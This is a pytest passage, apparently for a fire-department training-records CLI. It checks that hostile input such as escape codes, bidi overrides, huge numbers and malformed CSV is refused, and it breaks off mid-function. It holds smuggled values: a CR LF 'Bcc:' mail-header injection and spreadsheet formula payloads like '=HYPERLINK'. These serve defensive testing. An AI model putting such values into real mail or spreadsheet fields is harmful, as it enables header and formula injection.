"""Hostile and absurd input: every case exits with its documented code, names the field, and
writes nothing; no input reachable from the command line or a file ends in exit 70.

Every new command joins the CASES table (command x input x expected exit). The catch-all for
bugs is live here (TRAINCTL_DEBUG unset), so a crash shows as exit 70 and fails the case.
"""

from __future__ import annotations

import functools
import os
import stat
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

BIG = "99999999999999999999"  # beyond 64 bits
HUGE = "9" * 4301  # beyond what int() converts: "Exceeds the limit (4300 digits)"


@pytest.fixture
def dept(cli, monkeypatch):
    cli("member", "add", "Olive Officer", "--email", "olive@fd.org", "--role", "officer")
    cli("member", "add", "Ann Lee", "--email", "ann@fd.org", "--badge", "0042")
    monkeypatch.delenv("TRAINCTL_DEBUG")
    return cli


# (case id, args, expected exit, text the message must contain)
CASES = [
    ("member show: id beyond 64 bits", ["member", "show", BIG], 1, "No member"),
    ("member show: id: beyond 64 bits", ["member", "show", f"id:{BIG}"], 1, "No member"),
    ("--as: id beyond 64 bits", ["--as", BIG, "member", "list"], 1, "No member"),
    ("member show: 4,301 digits", ["member", "show", HUGE], 1, "No member"),
    ("member show: #4,301 digits", ["member", "show", f"#{HUGE}"], 1, "No member"),
    ("record show: 4,301 digits", ["record", "show", HUGE], 1, "No training record"),
    ("--as: 4,301 digits", ["--as", HUGE, "member", "list"], 1, "No member"),
    ("requirement add: a 4,301-digit number in --hour-categories",
     ["requirement", "add", "--name", "H", "--type", "hours", "--hours", "5", "--hour-categories",
      f'[{{"name": "a", "min_hours": {HUGE}}}]'], 65, "--hour-categories: a number has more than 4,300 digits"),
    ("requirement add: a key twice in --hour-categories",
     ["requirement", "add", "--name", "H", "--type", "hours", "--hours", "5", "--hour-categories",
      '[{"name": "a", "min_hours": 1, "min_hours": 9}]'], 65,
     "--hour-categories: the key 'min_hours' is given twice"),
    ("program create: a 4,301-digit number in --reminders",
     ["program", "create", "Q", "--reminders", f'{{"lead_days": [{HUGE}]}}'], 65,
     "--reminders: a number has more than 4,300 digits"),
    ("program create: a key twice in --reminders",
     ["program", "create", "Q", "--reminders", '{"lead_days": [30], "lead_days": [7]}'], 65,
     "--reminders: the key 'lead_days' is given twice"),
    ("skill checkoff: a 4,301-digit number in --results", ["skill", "checkoff", "ann@fd.org", "Knots", "--result",
     "passed", "--results", f'{{"t": {HUGE}}}'], 65, "--results: a number has more than 4,300 digits"),
    ("skill checkoff: a key twice in --results", ["skill", "checkoff", "ann@fd.org", "Knots", "--result",
     "passed", "--results", '{"t": 1, "t": 2}'], 65, "--results: the key 't' is given twice"),
    ("member add: ESC in a name", ["member", "add", "Ctl\x1b[31mRed", "--email", "c@fd.org"], 65,
     "control character"),
    ("member add: NUL-free but only zero-width", ["member", "add", "\u200b\u200c", "--email", "z@fd.org"],
     65, "blank"),
    ("member add: bidi override", ["member", "add", "Ann \u202eeeL", "--email", "b@fd.org"], 65,
     "text-direction"),
    ("member add: control character in a badge", ["member", "add", "Tom", "--email", "t@fd.org",
                                                  "--badge", "4\x07"], 65, "--badge: "),
    # (a zero-width space is dropped from a name, which is then the same name, not a look-alike;
    # a joiner is kept, as some scripts need it)
    ("member add: a look-alike of an existing name", ["member", "add", "Ann\u200c Lee", "--email",
                                                      "ann2@fd.org"], 65, "invisible"),
    ("member add: a badge a sheet reads as another's", ["member", "add", "Tom", "--email", "t@fd.org",
                                                        "--badge", "42"], 65, "42 reads as 0042 on a sign-in sheet"),
    ("member edit: a badge a sheet reads as another's", ["member", "edit", "olive@fd.org", "--badge",
                                                         "00042"], 65, "and 0042 belongs to member 2 (Ann Lee"),
    ("member add: a placeholder hire date", ["member", "add", "Tom", "--email", "t@fd.org",
                                             "--hire-date", "9999-12-31"], 65, "--hire-date: year 9999 is out of range"),
    ("member edit: year 1 certification date", ["member", "edit", "ann@fd.org", "--certification-date",
                                                "0001-01-01"], 65, "year 1 is out of range"),
    ("member edit: ESC in a name", ["member", "edit", "ann@fd.org", "--name", "A\x1bB"], 65,
     "control character"),
    ("--as-of: not a date", ["--as-of", "9999-99-99", "member", "list"], 2, "not a date"),
    ("record add: infinite hours", ["record", "add", "ann@fd.org", "--course", "Drill", "--hours", "inf"],
     65, "--hours"),
    ("record add: 1e300 hours", ["record", "add", "ann@fd.org", "--course", "Drill", "--hours", "1e300"],
     65, "--hours"),
    ("record add: negative hours", ["record", "add", "ann@fd.org", "--course", "Drill", "--hours", "-1"],
     65, "0 or more"),
    ("record add: absurd hours", ["record", "add", "ann@fd.org", "--course", "Drill", "--hours", "99999"],
     65, "not a plausible"),
    ("record add: ESC in a course", ["record", "add", "ann@fd.org", "--course", "D\x1b[31mrill",
                                     "--hours", "1"], 65, "control character"),
    ("record add: date beyond year 2199", ["record", "add", "ann@fd.org", "--course", "Drill", "--hours", "1",
                                           "--date", "9999-12-31"], 65, "out of range"),
    ("record add: member id beyond 64 bits", ["record", "add", BIG, "--course", "Drill", "--hours", "1"],
     1, f"No member '{BIG}'"),  # (given as MEMBER: refused as cert add refuses it, exit 1)
    ("record show: id beyond 64 bits", ["record", "show", BIG], 1, "No training record"),
    ("record void: id beyond 64 bits", ["record", "void", BIG, "--reason", "typo"], 1, "No training record"),
    ("record void: ESC in the reason", ["record", "void", "1", "--reason", "a\x1bb"], 65, "control character"),
    ("record list: --from not a date", ["record", "list", "--from", "2026-02-30"], 2, "not a date"),
    ("course show: id beyond 64 bits", ["course", "show", f"id:{BIG}"], 1, "No course"),
    ("course add: months beyond 64 bits", ["course", "add", "--name", "C", "--expiration-months", BIG],
     65, "--expiration-months: must be at most 600"),  # (the option typed, not the field)
    ("course add: NUL in a name", ["course", "add", "--name", "C\x00D"], 65, "control character"),
    # certifications, skills, shifts and calls (issue 8)
    ("cert add: member id beyond 64 bits", ["cert", "add", BIG, "ACLS", "--issued", "2026-01-01"], 1, "No member"),
    ("cert add: issued 9999-12-31", ["cert", "add", "ann@fd.org", "ACLS", "--issued", "9999-12-31"], 65,
     "out of range"),
    ("cert add: ESC in a code", ["cert", "add", "ann@fd.org", "AC\x1b[31mLS", "--issued", "2026-01-01"], 65,
     "control character"),
    # names and descriptions of requirements and programs reach tables and mail subjects
    ("requirement add: CR LF in a name", ["requirement", "add", "--name", "Pump\r\nBcc: x", "--type", "hours",
                                          "--hours", "2", "--counts-type", "drill"], 65, "contains a line break (U+000D)"),
    ("requirement add: ESC in a description", ["requirement", "add", "--name", "Pump", "--description",
                                               "a\x1b[2Jb", "--type", "hours", "--hours", "2",
                                               "--counts-type", "drill"], 65, "control character"),
    ("program create: ESC in a name", ["program", "create", "Bad\x1b[31mname"], 65, "control character"),
    ("program create: RLO in a description", ["program", "create", "Academy", "--description", "a\u202eb"], 65,
     "text-direction override"),
    ("cert add: NUL in a number", ["cert", "add", "ann@fd.org", "ACLS", "--number", "1\x002", "--issued",
                                   "2026-01-01"], 65, "--number"),
    ("cert add: expires before issued", ["cert", "add", "ann@fd.org", "ACLS", "--issued", "2026-01-02",
                                         "--expires", "2026-01-01"], 65, "before the card was issued"),
    ("cert list: --expiring-within beyond 64 bits", ["cert", "list", "--expiring-within", BIG], 2,
     "--expiring-within"),
    ("cert list: --expiring-within 1e300", ["cert", "list", "--expiring-within", "1e300"], 2, "--expiring-within"),
    ("cert void: id beyond 64 bits", ["cert", "void", BIG, "--reason", "typo"], 1, "No certification card"),
    ("skill add: NUL in a name", ["skill", "add", "Kno\x00ts"], 65, "control character"),
    ("skill add: a program id beyond 64 bits", ["skill", "add", "Knots", "--program", BIG], 1, "No program"),
    ("skill show: id beyond 64 bits", ["skill", "show", BIG], 1, "No skill"),
    ("skill checkoff: member id beyond 64 bits", ["skill", "checkoff", BIG, "Knots", "--result", "passed"], 1,
     "No member"),
    ("skill checkoff: 1e300 in --results", ["skill", "checkoff", "ann@fd.org", "Knots", "--result", "passed",
                                            "--results", '{"t": 1e300}'], 65, "--results"),
    ("skill checkoff: deeply nested --results", ["skill", "checkoff", "ann@fd.org", "Knots", "--result", "passed",
                                                 "--results", "[" * 100_000], 65, "--results"),
    ("skill checkoff: date 9999-12-31", ["skill", "checkoff", "ann@fd.org", "Knots", "--result", "passed",
                                         "--date", "9999-12-31"], 65, "out of range"),
    ("shift add: time out before time in", ["shift", "add", "ann@fd.org", "--date", "2026-03-08", "--time-in",
                                            "2026-03-08T07:00-05:00", "--time-out", "2026-03-08T06:00-05:00"], 65, "not after the time in"),
    ("shift add: 9999-12-31", ["shift", "add", "ann@fd.org", "--date", "9999-12-31", "--time-in",
                               "9999-12-31T07:00-05:00", "--time-out", "9999-12-31T08:00-05:00"], 65, "out of range"),
    ("shift add: an offset of 99 hours", ["shift", "add", "ann@fd.org", "--date", "2026-03-08", "--time-in",
                                          "2026-03-08T07:00+99:00", "--time-out", "2026-03-09T07:00-04:00"], 65, "not a real offset"),
    ("shift add: 1e300 as a time", ["shift", "add", "ann@fd.org", "--date", "2026-03-08", "--time-in", "2026-03-08T07:00-05:00",
                                    "--time-out", "1e300"], 65, "--time-out"),
    ("shift add: a year-long shift", ["shift", "add", "ann@fd.org", "--date", "2026-03-08", "--time-in", "2026-03-08T07:00-05:00",
                                      "--time-out", "2027-03-08T07:00-05:00"], 65, "at most 72 hours"),
    ("shift add: member id beyond 64 bits", ["shift", "add", BIG, "--date", "2026-03-08", "--time-in", "2026-03-08T07:00-05:00",
                                             "--time-out", "2026-03-09T07:00-04:00"], 1, "No member"),
    ("shift add: ESC in a station", ["shift", "add", "ann@fd.org", "--date", "2026-03-08", "--time-in", "2026-03-08T07:00-05:00",
                                     "--time-out", "2026-03-09T07:00-04:00", "--station", "S\x1b[2J"], 65, "control character"),
    ("shift list: --from not a date", ["shift", "list", "--from", "2026-02-30"], 2, "not a date"),
    ("shift list: member id beyond 64 bits", ["shift", "list", "--member", BIG], 1, "No member"),
    ("call add: ESC in an incident", ["call", "add", "F\x1b[31m1", "--member", "ann@fd.org", "--at", "2026-03-08T07:00-05:00"], 65,
     "control character"),
    ("call add: a date without a time", ["call", "add", "F1", "--member", "ann@fd.org", "--at", "2026-03-08"], 65,
     "not a date-time"),
    ("call add: at 9999-12-31", ["call", "add", "F1", "--member", "ann@fd.org", "--at", "9999-12-31T23:59+14:00"],
     65, "out of range"),
    ("call add: member id beyond 64 bits", ["call", "add", "F1", "--member", BIG, "--shift-date", "2026-03-08",
                                            "--at", "2026-03-08T07:00-05:00"], 1, "No member"),
    ("call list: member id beyond 64 bits", ["call", "list", "--member", BIG], 1, "No member"),
    # compliance reports (issue 9)
    ("report compliance: unknown member", ["report", "compliance", "--member", "nosuch@fd.org"], 1,
     "No member"),
    ("report compliance: member id beyond 64 bits", ["report", "compliance", "--member", BIG], 1,
     "No member"),
    ("report compliance: unknown requirement", ["report", "compliance", "--requirement", "Nope"], 1,
     "No requirement"),
    ("report compliance: requirement id beyond 64 bits", ["report", "compliance", "--requirement", BIG],
     1, "No requirement"),
    ("report compliance: unknown position", ["report", "compliance", "--position", "astronaut"], 2,
     "Unknown position"),
    ("report compliance: bad --as-of", ["report", "compliance", "--as-of", "2026-02-30"], 2, "not a date"),
    ("report compliance: --due-soon-days beyond 64 bits", ["report", "compliance", "--due-soon-days", BIG],
     2, "--due-soon-days"),
    ("report compliance: --due-soon-days -1", ["report", "compliance", "--due-soon-days", "-1"], 2,
     "--due-soon-days"),
    ("requirement explain: unknown member", ["requirement", "explain", "nosuch@fd.org", "1"], 1, "No member"),
    ("requirement explain: member id beyond 64 bits", ["requirement", "explain", f"id:{BIG}", "1"], 1,
     "No member"),
    ("requirement explain: requirement id beyond 64 bits", ["requirement", "explain", "ann@fd.org", BIG], 1,
     "No requirement"),
    ("requirement explain: bad --as-of", ["requirement", "explain", "ann@fd.org", "1", "--as-of", "0000-01-01"],
     2, "not a date"),
    ("report expiring: --within -5", ["report", "expiring", "--within", "-5"], 2, "--within"),
    ("report expiring: --within 10**12", ["report", "expiring", "--within", str(10**12)], 2, "--within"),
    ("report expiring: --within beyond 64 bits", ["report", "expiring", "--within", BIG], 2, "--within"),
    ("report expiring: bad --as-of", ["report", "expiring", "--as-of", "9999-99-99"], 2, "not a date"),
    ("report iso: --year 99999", ["report", "iso", "--year", "99999"], 2, "--year"),
    ("report iso: --year beyond 64 bits", ["report", "iso", "--year", BIG], 2, "--year"),
    ("report iso: --year not a number", ["report", "iso", "--year", "twenty"], 2, "--year"),
    ("report iso: --as-of 9999-12-31", ["report", "iso", "--year", "2025", "--as-of", "9999-12-31"], 2,
     "out of range"),
    ("report compliance: --as-of 9999-12-31", ["report", "compliance", "--as-of", "9999-12-31"], 2,
     "out of range"),
    ("report compliance: global --as-of 0001-01-01", ["--as-of", "0001-01-01", "report", "compliance"], 2,
     "out of range"),
    ("requirement explain: --as-of 9999-12-31", ["requirement", "explain", "ann@fd.org", "1", "--as-of",
                                                 "9999-12-31"], 2, "out of range"),
    ("report nremt: --as-of 9999-12-31", ["report", "nremt", "ann@fd.org", "--as-of", "9999-12-31"], 2,
     "out of range"),
    ("report expiring: --as-of 9999-12-31", ["report", "expiring", "--as-of", "9999-12-31"], 2, "out of range"),
    ("report nremt: unknown member", ["report", "nremt", "nosuch@fd.org"], 1, "No member"),
    ("report nremt: member id beyond 64 bits", ["report", "nremt", BIG], 1, "No member"),
    ("report nremt: unknown level", ["report", "nremt", "ann@fd.org", "--level", "NREMT-XYZ"], 1,
     "No requirement"),
    ("reminders send: --as-of not a date", ["reminders", "send", "--as-of", "2026-13-01"], 2, "not a date"),
    ("reminders preview: a five-digit year", ["reminders", "preview", "--as-of", "99999-01-01"], 2,
     "not a date"),
    ("reminders preview: the last day of the calendar", ["reminders", "preview", "--as-of", "9999-12-31"],
     0, "Nothing is due"),
    ("reminders send: the first day of the calendar", ["reminders", "send", "--as-of", "0001-01-01"], 0,
     "Nothing due"),
    ("reminders send --dry-run: the last day", ["reminders", "send", "--dry-run", "--as-of", "9999-12-31"],
     0, "nothing sent"),
    ("reminders send: --transport file without DIR", ["reminders", "send", "--transport", "file"], 2,
     "needs a folder"),
    ("reminders send: an unknown transport", ["reminders", "send", "--transport", "fax"], 2, "fax"),
    ("reminders log: member beyond 64 bits", ["reminders", "log", "--member", BIG], 1, "No member"),
    ("reminders log: --limit below 0", ["reminders", "log", "--limit", "-1"], 2, "--limit"),
    # beyond SQLite's 64-bit integers: was an OverflowError, exit 70 ("a bug")
    ("reminders log: --limit beyond 64 bits", ["reminders", "log", "--limit", "99999999999999999999"], 2,
     "--limit"),
    *[(f"{noun} list: --limit 2**63", [noun, "list", "--limit", str(2**63)], 2, "--limit")
      for noun in ("record", "shift", "call")],
    ("config set: a port that is not a number", ["config", "set", "smtp.port", "twenty-five"], 65,
     "not a port number"),
    ("config set: a port beyond 65535", ["config", "set", "smtp.port", "70000"], 65, "not a port number"),
    ("config set: a port in other digits", ["config", "set", "smtp.port", "٥٨٧"], 65, "not a port number"),
    ("config set: the password", ["config", "set", "smtp.password", "hunter2"], 65, "never stores"),
    ("config set: an unknown setting", ["config", "set", "smtp.hots", "x"], 2, "Unknown setting"),
    ("config set: an unknown security", ["config", "set", "smtp.security", "ssl3"], 65, "not one of"),
    ("config set: a sender that is not an address", ["config", "set", "smtp.sender", "nobody"], 65,
     "not one mail address"),
    ("config set: ESC in a host", ["config", "set", "smtp.host", "mail\x1b[2J"], 65, "control character"),
    ("config set: a host with a space", ["config", "set", "smtp.host", "mail server"], 65, "not a host"),
    ("config set: a timezone that is not one", ["config", "set", "timezone", "Mars/Olympus"], 65,
     "Unknown timezone"),
    ("requirement add: --time-limit-days 5000000", ["requirement", "add", "--name", "Long", "--type", "hours",
                                                    "--hours", "10", "--time-limit-days", "5000000"], 65,
     "time_limit_days"),
    ("requirement add: --hours 1e300", ["requirement", "add", "--name", "Big", "--type", "hours", "--hours",
                                        "1e300"], 65, "--hours 1e300: not a number from 0 to 100,000"),
    ("requirement add: --hours inf", ["requirement", "add", "--name", "Big", "--type", "hours", "--hours", "inf"],
     65, "--hours"),
    ("requirement add: deeply nested --hour-categories", ["requirement", "add", "--name", "Deep", "--type",
                                                          "hours", "--hours", "10", "--hour-categories",
                                                          "[" * 10_000], 65, "--hour-categories"),
    # shown as typed (it read "got 1e+20"); 400 digits crashed float() with exit 70
    ("requirement add: --time-limit-days beyond 64 bits", ["requirement", "add", "--name", "Long", "--type",
                                                           "hours", "--hours", "10", "--time-limit-days", BIG],
     65, f"time_limit_days: must be at most 36500 (got {BIG})"),
    ("requirement add: --time-limit-days of 400 digits", ["requirement", "add", "--name", "Long", "--type",
                                                          "hours", "--hours", "10", "--time-limit-days", "9" * 400],
     65, "(got 9999999999999999999999999999999999999999... (400 digits))"),
    ("program create: --time-limit-days of 400 digits", ["program", "create", "Long", "--time-limit-days", "9" * 400],
     65, "(got 9999999999999999999999999999999999999999... (400 digits))"),
]  # fmt: skip


@pytest.mark.parametrize(("args", "code", "text"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_hostile_command_line_input(dept, snapshot, args, code, text):
    before = snapshot()
    r = dept(*args, ok=False)
    assert r.exit_code == code, r
    assert text in r.stderr + r.stdout, r
    assert "failed unexpectedly" not in r.stderr
    assert snapshot() == before


def _import(cli, tmp_path: Path, body: bytes, *extra: str):
    f = tmp_path / "roster.csv"
    f.write_bytes(body)
    return cli("member", "import", "--csv", str(f), *extra, ok=False)


FILE_CASES = [
    ("NUL byte in a name", b"name,email\nA\x00B,a@fd.org\n", "control character"),
    ("ESC in a name", b"name,email\nA\x1b[2JB,a@fd.org\n", "control character"),
    ("only zero-width characters", "name,email\n\u200b\u200b,a@fd.org\n".encode(), "blank"),
    ("a 1 MB field", b"name,email\n" + b"A" * 1_000_000 + b",a@fd.org\n", "line 2"),
    ("another spelling of a badge on file", b"name,email,badge\nT,t@fd.org,042\n",
     "line 2, field badge: 042 already belongs to member 2 (Ann Lee, ann@fd.org) as 0042"),
    ("one badge twice, spelled two ways", b"name,email,badge\nA,a@fd.org,x-7\nB,b@fd.org,X-7\n",
     "line 3, field badge: X-7 is also given to a@fd.org on line 2 as x-7"),
    ("a certification date in 9997", b"name,email,certification_date\nQ,q@fd.org,9997-07-01\n",
     "line 2, field certification_date: year 9997 is out of range"),
    # a heading deleted in Excel: the badges under it were dropped, exit 0
    ("a value under an empty header cell", b"name,email,,positions\nNew Guy,new@fd.org,F-500,firefighter\n",
     "line 2: 'F-500' in column 3, whose header is empty"),
]


@pytest.mark.parametrize(("body", "text"), [c[1:] for c in FILE_CASES], ids=[c[0] for c in FILE_CASES])
def test_hostile_member_files(dept, snapshot, tmp_path, body, text):
    before = snapshot()
    r = _import(dept, tmp_path, body)
    assert r.exit_code == 65, r
    assert text in r.stderr, r
    assert snapshot() == before


RECORD_FILE_CASES = [
    ("NUL in a course", b"email,course,date,hours\nann@fd.org,Dr\x00ill,2026-03-04,1\n", "line 2, field course"),
    ("ESC in an instructor", b"email,course,date,hours,instructor\nann@fd.org,Drill,2026-03-04,1,A\x1b[2J\n",
     "line 2, field instructor"),
    ("a 1 MB field", b"email,course,date,hours\nann@fd.org," + b"A" * 1_000_000 + b",2026-03-04,1\n",
     "line 2, field course"),
    ("a 5 MB field", b"email,course,date,hours\nann@fd.org," + b"A" * 5_000_000 + b",2026-03-04,1\n", "line 2"),
    ("1e300 hours", b"email,course,date,hours\nann@fd.org,Drill,2026-03-04,1e300\n", "line 2, field hours"),
    ("inf hours", b"email,course,date,hours\nann@fd.org,Drill,2026-03-04,inf\n", "line 2, field hours"),
    ("nan hours", b"email,course,date,hours\nann@fd.org,Drill,2026-03-04,NaN\n", "line 2, field hours"),
    ("-1 hours", b"email,course,date,hours\nann@fd.org,Drill,2026-03-04,-1\n", "line 2, field hours"),
    ("huge score", b"email,course,date,hours,score\nann@fd.org,Drill,2026-03-04,1,1e999\n", "line 2, field score"),
    ("not UTF-8", b"email,course,date,hours\nann@fd.org,Dr\xe9ill,2026-03-04,1\n", "line 2"),
    ("UTF-16LE", "email,course,date,hours\nann@fd.org,Drill,2026-03-04,1\n".encode("utf-16-le"),
     "looks like UTF-16"),
    ("UTF-16BE", "email,course,date,hours\nann@fd.org,Drill,2026-03-04,1\n".encode("utf-16-be"),
     "looks like UTF-16"),
    ("a badge beyond 64 bits", b"badge,course,date,hours\n" + BIG.encode() + b",Drill,2026-03-04,1\n",
     "line 2, field badge"),
    ("year 0", b"email,course,date,hours\nann@fd.org,Drill,0000-01-01,1\n", "line 2, field date"),
    ("NUL bytes and no newline (/dev/zero)", b"\x00" * 100_000, "not a text file (it holds NUL bytes)"),
]  # fmt: skip


@pytest.mark.parametrize(("body", "text"), [c[1:] for c in RECORD_FILE_CASES], ids=[c[0] for c in RECORD_FILE_CASES])
def test_hostile_record_sheets(dept, snapshot, tmp_path, body, text):
    sheet = tmp_path / "sheet.csv"
    sheet.write_bytes(body)
    before = snapshot()
    for extra in ((), ("--skip-invalid",)):
        r = dept("--as-of", "2026-12-31", "record", "import", str(sheet), *extra, ok=False)
        assert r.exit_code == 65, r
        assert text in r.stderr, r
        assert "failed unexpectedly" not in r.stderr
        assert snapshot() == before


def test_real_names_are_kept(cli):
    names = ["Zoë O'Brien-Ñúñez", "محمد رضا", "李小龍", "Ольга Петрова", "می\u200cخواهم"]
    for i, name in enumerate(names):
        cli("member", "add", name, "--email", f"n{i}@fd.org")
    shown = {m["name"] for m in cli("--format", "json", "member", "list").json}
    assert shown == set(names)


def test_csv_output_neutralises_formulas_and_json_stays_exact(cli):
    cli("member", "add", "=HYPERLINK(\"http://x\",\"y\")", "--email", "f@fd.org", "--badge", "+1+1")
    cli("member", "add", "@SUM(A1)", "--email", "g@fd.org", "--badge", "-5")
    csv_out = cli("--format", "csv", "member", "list").stdout
    assert "'=HYPERLINK" in csv_out and "'+1+1" in csv_out and "'@SUM" in csv_out and "'-5" in csv_out
    names = {m["name"] for m in cli("--format", "json", "member", "list").json}
    assert '=HYPERLINK("http://x","y")' in names


def test_reject_file_is_private_and_never_replaces_someone_elses_file(cli, tmp_path, snapshot):
    roster = tmp_path / "roster.csv"
    roster.write_text("name,email\nGood One,good@fd.org\n,bad@fd.org\n")
    rejects = tmp_path / "roster.rejects.csv"
    rejects.write_text("my own notes\n")
    cli("member", "list")  # the database exists before the snapshot
    before = snapshot()
    r = cli("member", "import", "--csv", str(roster), "--skip-invalid", ok=False)
    assert r.exit_code == 65 and "not a reject file" in r.stderr
    assert rejects.read_text() == "my own notes\n" and snapshot() == before
    rejects.unlink()
    (tmp_path / "elsewhere").write_text("keep\n")
    rejects.symlink_to(tmp_path / "elsewhere")
    r = cli("member", "import", "--csv", str(roster), "--skip-invalid", ok=False)
    assert r.exit_code == 65 and (tmp_path / "elsewhere").read_text() == "keep\n"
    rejects.unlink()
    cli("member", "import", "--csv", str(roster), "--skip-invalid", ok=False)
    assert stat.S_IMODE(rejects.stat().st_mode) == 0o600
    assert rejects.read_bytes().startswith(b"\xef\xbb\xbfreason")  # a BOM: Excel reads it as UTF-8
    cli("member", "import", "--csv", str(roster), "--skip-invalid", ok=False)  # replaces its own


def _chattr(flag: str, path: Path) -> bool:
    try:
        return subprocess.run(["chattr", flag, str(path)], capture_output=True).returncode == 0
    except FileNotFoundError:
        return False


@contextmanager
def read_only(target: Path) -> Iterator[None]:
    """`target` (a folder or a file) read-only for the block: chmod, or chattr +i as root
    (root ignores file modes)."""
    if os.geteuid() == 0:
        if not _chattr("+i", target):
            pytest.skip("needs chattr (root ignores file modes)")
    else:
        target.chmod(0o555 if target.is_dir() else 0o444)
    try:
        yield
    finally:
        if os.geteuid() == 0:
            _chattr("-i", target)
        else:
            target.chmod(0o755 if target.is_dir() else 0o644)


@pytest.mark.parametrize("what", ["folder", "file"])
def test_a_read_only_database_reads_and_refuses_writes_with_the_reason(cli, tmp_path, what, monkeypatch):
    folder = tmp_path / "ro"
    folder.mkdir()
    db = folder / "t.db"
    cli("--db", str(db), "member", "add", "Ann Lee", "--email", "ann@fd.org")
    monkeypatch.delenv("TRAINCTL_DEBUG")
    with read_only(folder if what == "folder" else db):
        r = cli("--db", str(db), "--format", "json", "member", "list")
        assert [m["name"] for m in r.json] == ["Ann Lee"]
        r = cli("--db", str(db), "member", "add", "Bo", "--email", "bo@fd.org", ok=False)
        assert r.exit_code == 77 and "read-only" in r.stderr, r
        assert "not a SQLite database" not in r.stderr
    r = cli("--db", str(db), "--format", "json", "member", "list")
    assert [m["name"] for m in r.json] == ["Ann Lee"]


@pytest.mark.parametrize("what", ["folder", "file"])
def test_a_read_only_database_backs_up_checks_and_dry_runs(cli, tmp_path, monkeypatch, what):
    """The read-only refusal's hint says `trainctl db backup` makes a copy, yet `db backup`
    and `db check` opened the file for writing and were refused (exit 77), as were the dry
    runs, which write nothing (some write their would-be rows and roll back: record add,
    record import, course import). Now they work there; a write is still refused with exit
    77, `reminders send` too (it was exit 1: "Cannot create the lock file")."""
    folder = tmp_path / "ro"
    folder.mkdir()
    db = folder / "t.db"
    run = functools.partial(cli, "--db", str(db))
    run("member", "add", "Ann Lee", "--email", "ann@fd.org", "--badge", "0042")
    run("requirement", "add", "--name", "Orientation", "--type", "hours", "--hours", "1")
    run("requirement", "add", "--name", "Ladders", "--type", "hours", "--hours", "2")
    run("program", "create", "Recruit")
    run("program", "requirement", "add", "Recruit", "Orientation")
    run("program", "activate", "Recruit")
    roster = tmp_path / "roster.csv"
    roster.write_text("name,email\nBo Dee,bo@fd.org\n")
    recruits = tmp_path / "recruits.csv"
    recruits.write_text("badge\n0042\n")
    sheet = tmp_path / "sheet.csv"
    sheet.write_text("Date,Course,Badge,Hours\n2026-03-11,Ladder drill,0042,2\n")
    courses = tmp_path / "courses.csv"
    courses.write_text("code,name,training_type\nLAD-1,Ladder drill,drill\n")
    from conftest import dump_db

    before = dump_db(db)
    monkeypatch.delenv("TRAINCTL_DEBUG")
    with read_only(folder if what == "folder" else db):
        r = run("db", "backup", str(tmp_path / "copy.db"))
        assert "Backed up to" in r.stderr
        r = run("--format", "json", "db", "check")
        assert {c["check"]: c["ok"] for c in r.json} == {
            "schema at head": True, "integrity_check": True, "foreign_key_check": True}
        r = run("import", "nfpa", "--dry-run")
        assert "dry run: nothing written" in r.stderr
        r = run("member", "import", "--csv", str(roster), "--dry-run")
        assert "would be 1 added" in r.stderr
        r = run("enroll", "bulk", "Recruit", "--csv", str(recruits), "--dry-run")
        assert "Would enroll 1 member" in r.stderr
        r = run("program", "requirement", "add", "Recruit", "Ladders", "--dry-run")
        assert "Would link" in r.stderr
        r = run("record", "add", "--members", "0042", "--course", "Ladder drill", "--hours", "2",
                "--date", "2026-03-11", "--dry-run")  # fmt: skip
        assert "Would record 1 record" in r.stderr
        r = run("record", "import", str(sheet), "--dry-run")
        assert "1 would add" in r.stderr
        r = run("course", "import", "--csv", str(courses), "--dry-run")
        assert "would be 1 added" in r.stderr
        r = run("member", "add", "Cy", "--email", "cy@fd.org", ok=False)
        assert r.exit_code == 77 and "read-only" in r.stderr, r
        if what == "folder":  # (a read-only file alone: the lock is made, the write refused)
            r = run("reminders", "send", ok=False)
            assert r.exit_code == 77 and "read-only" in r.stderr, r
    assert dump_db(db) == before
    assert sorted(p.name for p in folder.iterdir()) == ["t.db"]
    copy = cli("--db", str(tmp_path / "copy.db"), "--format", "json", "member", "list").json
    assert [m["name"] for m in copy] == ["Ann Lee"]


@pytest.mark.sqlite_only("a SQLite file another program locks")
@pytest.mark.parametrize("args", [("member", "list"), ("member", "add", "Bo", "--email", "bo@fd.org")])
def test_a_database_locked_against_readers_is_busy_not_a_stranger(cli, tmp_path, monkeypatch, args):
    """Another program holding the file in exclusive locking mode (its readers shut out
    too) was reported as "not a SQLite database", exit 1, with the hint to point --db at
    a new file; it is busy: exit 75, after the busy timeout, nothing written."""
    import sqlite3

    from trainctl import dbfile, queries

    db = tmp_path / "t.db"
    cli("--db", str(db), "member", "add", "Ann Lee", "--email", "ann@fd.org")
    monkeypatch.setattr(dbfile, "BUSY_TIMEOUT_MS", 200)
    monkeypatch.setattr(queries, "BUSY_TIMEOUT_MS", 200)
    monkeypatch.delenv("TRAINCTL_DEBUG")
    other = sqlite3.connect(db, isolation_level=None)
    other.execute("PRAGMA locking_mode=EXCLUSIVE")
    other.execute("BEGIN EXCLUSIVE")
    other.execute("SELECT count(*) FROM member").fetchall()
    try:
        r = cli("--db", str(db), *args, ok=False)
    finally:
        other.execute("ROLLBACK")
        other.close()
    assert r.exit_code == 75, r
    assert "The database is busy" in r.stderr and "not a SQLite database" not in r.stderr, r
    names = [m["name"] for m in cli("--db", str(db), "--format", "json", "member", "list").json]
    assert names == ["Ann Lee"]


@pytest.mark.parametrize("sep", [b"sep=;", b"SEP=;", b'"sep=;"', b'"sep=;";;'],
                         ids=["excel", "upper case", "quoted", "quoted and padded"])  # fmt: skip
def test_excels_sep_line_names_the_delimiter(enrollable, tmp_path, sep):
    """Excel's "sep=;" above the header was read as the header ("unknown column: 'sep='",
    "missing columns"): it names the delimiter, and lines keep their numbers in the file.
    So does the line in upper case, or quoted (and padded to the sheet's width) as a tool
    that read it as a cell writes it back ("unknown column: 'SEP='" before)."""
    roster = tmp_path / "roster.csv"
    roster.write_bytes(sep + b"\r\nname;email;badge\r\nNew Guy;new@fd.org;F-900\r\nBad;not-an-email;F-901\r\n")
    r = enrollable("member", "import", "--csv", str(roster), ok=False)
    assert r.exit_code == 65 and "line 4, field email" in r.stderr, r
    r = enrollable("member", "import", "--csv", str(roster), "--skip-invalid", ok=False)
    assert "1 added" in r.stderr, r
    rejects = (tmp_path / "roster.rejects.csv").read_text(encoding="utf-8-sig").splitlines()
    assert rejects[0] == "reason;name;email;badge" and rejects[1].endswith(";Bad;not-an-email;F-901")
    sheet = tmp_path / "sheet.csv"
